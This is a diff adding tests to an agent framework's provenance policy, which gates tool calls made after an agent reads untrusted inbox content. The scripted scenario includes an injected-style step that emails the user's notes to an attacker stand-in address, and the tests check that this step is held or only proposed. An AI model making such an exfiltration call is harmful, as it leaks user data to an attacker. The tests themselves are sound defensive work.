@@ -13,7 +13,7 @@ from pydantic import BaseModel
 from agentkit import AfterProposal, LoopConfig, Outcome, StopReason, Tier, UsageError, run_tool_loop, tool
 from agentkit import run_tool_loop_tiered as tiered
 from agentkit.provenance import ProvenancePolicy, Trust
-from agentkit.testing import ScriptedCaller, call_step, done_step
+from agentkit.testing import ScriptedCaller, call_step, calls_step, done_step
 from tests.provenance_support import (
     ATTACKER_IBAN,
     ATTACKER_MAIL,
@@ -407,3 +407,47 @@ def test_a_declaration_of_the_wrong_type_fails_closed() -> None:
     assert declared_trust(SimpleNamespace(trust="trusted")) is Trust.UNTRUSTED
     assert declared_egress(SimpleNamespace(egress=0)) is True
     assert (declared_trust(SimpleNamespace()), declared_egress(SimpleNamespace())) == (Trust.TRUSTED, False)
+
+
+def multi(*step_calls: tuple[tuple[str, BaseModel], ...]) -> ScriptedCaller:
+    """A script of steps of several calls each, then done."""
+    return ScriptedCaller(
+        [*(calls_step(*(call_step(args, tool=name) for name, args in calls)) for calls in step_calls), done_step()]
+    )
+
+
+async def test_a_step_of_several_calls_after_untrusted_content_runs_its_reads_and_holds_the_rest() -> None:
+    """Several calls per step: once an earlier step read untrusted content, each call of a later step is
+    gated on its own with the run's taint: the plain read runs live, the reversible call is held by the policy
+    and the mail (above the ceiling) is proposed, marked as made after untrusted content."""
+    tools = world()
+    caller = multi(
+        (INBOX,),
+        (NOTES, ("send_email", Email(to=ATTACKER_MAIL, body="notes")), ("archive", Folder(folder="inbox"))),
+    )
+    result = await tiered(caller, Executor[Doc](), list(tools.values()), TASK, config(max_calls_per_step=3))
+    assert sorted(ran(tools)) == ["read_inbox", "read_notes"]
+    assert sorted(p.tool_name for p in result.proposed) == ["archive", "send_email"]
+    held = {p.tool_name: p.evidence.provenance.held for p in result.proposed if p.evidence and p.evidence.provenance}
+    assert held == {"archive": True, "send_email": False}  # the mail is above the tiers' ceiling anyway
+    [mail] = [p for p in result.proposed if p.tool_name == "send_email"]
+    assert mail.evidence is not None
+    assert mail.evidence.provenance is not None
+    assert mail.evidence.provenance.tainted
+
+
+async def test_calls_of_the_step_that_first_reads_untrusted_content_are_gated_before_it_is_read() -> None:
+    """The calls of one step are made before any of their results is read: the step that first reads untrusted
+    content runs its reversible call live (nothing untrusted could have shaped it); the next step's is held."""
+    tools = world()
+    caller = multi(
+        (INBOX, ("archive", Folder(folder="old"))),
+        (("archive", Folder(folder="older")),),
+    )
+    result = await tiered(caller, Executor[Doc](), list(tools.values()), TASK, config(max_calls_per_step=2))
+    assert [call.folder for call in ran(tools)["archive"]] == ["old"]
+    [proposal] = result.proposed
+    assert proposal.tool_name == "archive"
+    assert proposal.evidence is not None
+    assert proposal.evidence.provenance is not None
+    assert proposal.evidence.provenance.held
